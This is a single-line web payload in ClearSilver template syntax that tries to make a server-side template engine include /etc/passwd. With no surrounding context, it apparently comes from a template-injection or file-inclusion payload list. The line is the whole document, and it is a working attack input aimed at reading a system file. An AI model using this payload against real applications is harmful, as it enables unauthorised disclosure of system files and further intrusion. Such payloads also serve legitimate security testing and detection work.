<?cs include:"/etc/passwd" ?>
